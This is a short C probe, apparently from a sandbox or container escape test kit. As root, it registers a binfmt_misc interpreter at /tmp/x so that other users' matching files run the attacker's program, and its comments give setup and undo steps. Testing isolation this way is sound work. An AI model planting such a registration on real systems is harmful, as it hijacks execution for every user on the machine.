// tries: to register an interpreter of the attacker's for a kind of files that somebody else runs
// works: root writes to binfmt_misc, which runs the interpreter for everybody
// see: Documentation/admin-guide/binfmt-misc.rst; "shadow SUID" by binfmt_misc
// goal: change
// user: root
// needs: modprobe binfmt_misc && { mountpoint -q /proc/sys/fs/binfmt_misc || mount -t binfmt_misc none /proc/sys/fs/binfmt_misc; }
// watch: /proc/sys/fs/binfmt_misc
// undo: echo -1 >/proc/sys/fs/binfmt_misc/escape
// alone: it is the machine's
#include "../kit.h"

int main(void)
{
	int fd = MUST(open("/proc/sys/fs/binfmt_misc/register", O_WRONLY));

	return MUST(dprintf(fd, ":escape:M::escape::%s:", "/tmp/x")) < 0;
}
